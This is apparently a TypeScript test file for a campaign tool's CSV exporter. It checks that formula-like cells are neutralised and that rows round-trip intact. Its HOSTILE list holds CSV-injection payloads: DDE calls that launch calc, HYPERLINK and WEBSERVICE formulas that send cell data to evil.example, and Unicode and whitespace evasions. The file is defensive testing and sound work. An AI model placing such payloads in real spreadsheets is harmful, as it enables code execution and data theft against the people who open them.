import Papa from 'papaparse';
import { BYTE_ORDER_MARK, COLUMNS, csvCell, csvOf, plainCell } from '../../src/campaign/csv';
import { listOf } from '../../src/campaign/root-cause';
import { hasArrived, type Row } from '../../src/campaign/row';
import { overviewOf } from '../../src/campaign/things-to-do';
import { makeCampaign } from './made-campaign';
import { summaryOf } from './read-files';

const HOSTILE = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=WEBSERVICE("http://evil.example")',
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '|calc',
  '%0A=1+1',
  "'=1+1",
  '"=1+1"',
];

test.each(HOSTILE)('no spreadsheet takes %j for a formula', (text) => {
  const cell = csvCell(text);
  expect(cell === text ? /^[=+\-@\t\r\n＝＋－＠|%]/.test(text.trimStart()) : cell.startsWith("'")).toBe(
    cell !== text,
  );
  expect(plainCell(cell)).toBe(text);
});

test('what is no formula stays as it is', () => {
  for (const text of ['550 5.1.1 no', 'user@example.com', '', '2026-11-23', 'a=b'])
    expect(csvCell(text)).toBe(text);
});

test('a well-kept reader finds the same rows again', async () => {
  const made = makeCampaign({ suppressed: 20, rule: 10, wrong: 20, others: 3 });
  const rows = [...overviewOf(await summaryOf(made.files)).rows].map((row, at): Row => ({
    ...row,
    diagnostic: `${HOSTILE[at % HOSTILE.length]}; "a",\r\nb`,
  }));
  const text = [...csvOf(rows)].join('');
  expect(text.startsWith(BYTE_ORDER_MARK)).toBe(true);
  const { data, errors } = Papa.parse<string[]>(text.slice(1).trimEnd(), { newline: '\r\n' });
  expect(errors).toEqual([]);
  expect(data[0]).toEqual([...COLUMNS]);
  const again = data.slice(1).map((cells) => cells.map(plainCell));
  const told = rows.map((row) => {
    // `list` is concluded from the row; where it arrived, there is none.
    const list = hasArrived(row) ? '' : listOf(row);
    return COLUMNS.map((column) => String((column === 'list' ? list : row[column]) ?? ''));
  });
  expect(again).toEqual(told);
});
